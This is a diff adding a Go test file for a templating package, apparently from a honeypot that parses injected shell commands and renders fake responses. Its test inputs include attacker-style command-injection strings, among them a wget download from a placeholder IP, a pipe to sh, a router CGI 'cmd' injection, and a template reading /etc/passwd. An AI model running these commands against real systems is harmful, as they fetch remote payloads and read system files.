@@ -0,0 +1,55 @@
+package templating
+
+import (
+	"net/http/httptest"
+	"strings"
+	"testing"
+)
+
+func TestEchoed(t *testing.T) {
+	tests := []struct {
+		Input    string
+		Expected string
+	}{
+		{"echo 0xdeadbeef;id", "0xdeadbeef"},
+		{"cd /tmp; echo -n 'Damn kids' && wget http://192.0.2.1/x", "Damn kids"},
+		{"`echo \"abc def\"`", "abc def"},
+		{"echo marker1 marker2|sh", "marker1 marker2"},
+		{"techo nope; echo yes", "yes"},
+		{"id", ""},
+	}
+
+	for _, test := range tests {
+		if got := echoed(test.Input); got != test.Expected {
+			t.Errorf("expected '%s', got '%s' for '%s'", test.Expected, got, test.Input)
+		}
+	}
+}
+
+func TestRender(t *testing.T) {
+	r := httptest.NewRequest("GET", "/cgi-bin/luci?cmd=echo+x3n0n%3Buname&user=admin", nil)
+	r.Header.Set("User-Agent", "Mozilla/5.0 zgrab/0.x")
+
+	data := NewRequest(r, "")
+	data.Captures = []string{"luci"}
+	data.NamedCaptures["user"] = "admin"
+
+	tmpl, err := Parse("test", `{{ echoed (.Param "cmd") }}|{{ .Header "User-Agent" }}|{{ index .Captures 0 }}|{{ .Capture "user" }}|{{ md5 "melody" }}|{{ len (randomHex 4) }}`)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	body, err := Render(tmpl, data)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	expected := "x3n0n|Mozilla/5.0 zgrab/0.x|luci|admin|" + md5Hex("melody") + "|8"
+	if string(body) != expected {
+		t.Errorf("expected '%s', got '%s'", expected, body)
+	}
+
+	if _, err := Parse("invalid", "{{ readFile \"/etc/passwd\" }}"); err == nil || !strings.Contains(err.Error(), "readFile") {
+		t.Errorf("expected an error for an undefined function, got %v", err)
+	}
+}